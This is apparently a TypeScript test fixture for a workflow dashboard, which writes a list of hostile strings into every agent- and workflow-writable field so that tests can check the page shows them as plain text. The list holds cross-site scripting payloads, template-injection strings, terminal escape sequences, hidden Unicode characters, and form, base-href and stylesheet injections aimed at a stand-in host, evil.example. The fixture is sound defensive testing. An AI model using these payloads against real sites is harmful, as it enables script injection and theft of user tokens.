/** Text that would do something if a page took it for more than text, in every field that an agent or a workflow can write. */
import type { Engine } from '../../../src/engine/index.ts';
import { type Definition, handleOf } from '../../../src/machine/index.ts';
import { begin, type Played } from '../../kit/dashboard/situations.ts';

const run = 'window.pwned=1';
const esc = '\u001b';
const bell = '\u0007';

/** Elements of these are known by `evil`; what runs sets `window.pwned`. */
export const corpus: readonly string[] = [
  `<script class=evil>${run}</script>`,
  `</script><script class=evil>${run}</script>`,
  `<img class=evil src=x onerror="${run}">`,
  `"><svg class=evil onload=${run}>`,
  `<svg class=evil><animate onbegin=${run} attributeName=x></svg>`,
  `<iframe class=evil srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a class=evil href="javascript:${run}">open</a>`,
  `javascript:${run}//`,
  ` \tjavascript:${run}`,
  `data:text/html,<script>opener.${run}</script>`,
  `[read](javascript:${run})`,
  `![x](https://evil.example/x.png)`,
  `https://evil.example/?q=<b class=evil>x</b>`,
  `' onmouseover='${run}' class='evil`,
  `" autofocus onfocus="${run}" class="evil`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}<%= ${run} %>`,
  `<style class=evil>*{background:url(https://evil.example/x)}</style>`,
  `</style><link class=evil rel=stylesheet href=https://evil.example/x.css>`,
  `<base class=evil href=https://evil.example/><meta class=evil http-equiv=refresh content=0>`,
  `<form class=evil action=https://evil.example/><input class=evil name=token></form>`,
  `${esc}]8;;javascript:${run}${bell}open${esc}]8;;${bell} ${esc}[31mred${esc}[0m`,
  `${esc}]0;evil title${bell}${esc}[2J${esc}[8m`,
  `\u202etxt.exe\u202c \u2066isolated\u2069 \u200bhidden`,
  `before\u0000after\u0000<b class=evil>`,
  `&lt;img class=evil src=x onerror=${run}&gt;&#x3c;b&#x3e;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `__proto__ constructor toString`,
];

/** Where each text was written, so that a test can see that the page shows it. */
export type Text = (field: string) => string;

export const ends = ['review', 'question', 'blocked', 'parked', 'cancelled', 'failed', 'budget'] as const;
export type End = (typeof ends)[number];

const definitionOf = (text: Text, end: End): Definition => ({
  name: text('workflow').slice(0, 900),
  description: text('description'),
  agents: { [text('agent')]: { description: text('agent description') } },
  inputs: { story: { type: 'string' } },
  loops: {
    build: [
      {
        id: 'code',
        title: text('sub-step title'),
        instructions: text('sub-step instructions'),
        gate: [{ run: text('task gate') }],
        on_fail: { retry: 1, then: 'wait' },
      },
    ],
  },
  steps: [
    {
      id: 'think',
      type: 'action',
      title: text('first title'),
      instructions: text('instructions'),
      agent: text('agent'),
      gate: [{ run: text('gate') }, { exists: text('file') }],
      ...(end === 'blocked' ? { on_fail: { retry: 2, then: 'wait' } } : {}),
    },
    { id: 'plan', type: 'action', title: text('plan title'), review: { by: 'human' }, instructions: 'x' },
    { id: 'build', type: 'loop', title: text('loop title'), parallel: 2 },
    {
      id: 'close',
      type: 'action',
      title: text('last title'),
      instructions: text('last instructions'),
      gate: [{ run: text('last gate') }],
      budget: { turns: 1 },
    },
  ],
});

/** A run with this text everywhere, as far as such an end. */
export async function playHostile(engine: Engine, text: Text, end: End): Promise<Played> {
  const session = text('session').slice(0, 900);
  const played = await begin(engine, definitionOf(text, end), {
    summary: text('summary'),
    inputs: { story: text('input') },
    session,
  });
  const { send, person } = played;
  const host = text('host').slice(0, 900);
  await send({ type: 'session', session, event: { type: 'started', host, witness: 'hooks' } });
  await send({ type: 'spend', turns: 1, tokens: 10, session });
  await send({ type: 'note', kind: 'decision', text: text('note').slice(0, 390), session });
  await send({ type: 'ask', text: text('question'), session });
  await send({
    type: 'answer',
    text: text('answer'),
    actor: { kind: 'person', name: text('person').slice(0, 900) },
  });
  await send({ type: 'advance', output: text('first output'), session });
  await played.gates('red', text('red log'));
  await send({ type: 'advance', output: text('output'), session });
  await played.gates(end === 'blocked' ? 'red' : 'green', text('log'));
  if (end === 'blocked') return played;
  await send({ type: 'advance', output: text('plan'), session });
  if (end === 'review') return played;
  if (end === 'failed') await person({ type: 'review', verdict: 'abandon', feedback: text('end reason') });
  if (end === 'failed') return played;
  await person({ type: 'review', verdict: 'revise', feedback: text('feedback') });
  if (end === 'cancelled') await person({ type: 'cancel', reason: text('end reason') });
  if (end === 'cancelled') return played;
  await send({ type: 'advance', output: text('better plan'), session });
  await person({ type: 'review', verdict: 'approve' });
  const tasks = [
    { id: 't1', title: text('task title'), description: text('task description').slice(0, 900) },
    { id: 't2', title: text('later title'), depends_on: ['t1'] },
  ];
  await send({ type: 'setTasks', loop: 'build', tasks, session });
  const driver = { pid: 1, machine: text('machine').slice(0, 900) };
  const branch = text('branch').slice(0, 900);
  await played.engine({ type: 'drive', change: 'take', process: driver, branch });
  await played.engine({ type: 'claim', holder: text('holder').slice(0, 900), task: 't1' });
  const state = await played.state();
  const at = Object.values(state.cursors).map((cursor) => handleOf(state, cursor))[0] ?? '';
  if (end === 'question') {
    await played.engine({ type: 'ask', text: text('open question'), at });
    return played;
  }
  await played.engine({ type: 'advance', output: text('task output'), at });
  await played.gates('green', text('task log'));
  await played.engine({ type: 'mergeStarted', epoch: 1, task: 't1', base: 'b', commit: 'c' });
  const merge = { type: 'mergeFinished', epoch: 1, task: 't1' } as const;
  if (end === 'parked') {
    const files = [text('merge file').slice(0, 900)];
    await played.engine({ ...merge, result: 'conflict', reason: text('merge reason'), files });
    return played;
  }
  await played.engine({ ...merge, result: 'merged', commit: 'd' });
  await person({ type: 'dropTask', task: 't2', reason: text('drop reason') });
  await send({ type: 'spend', turns: 1, session });
  return played;
}
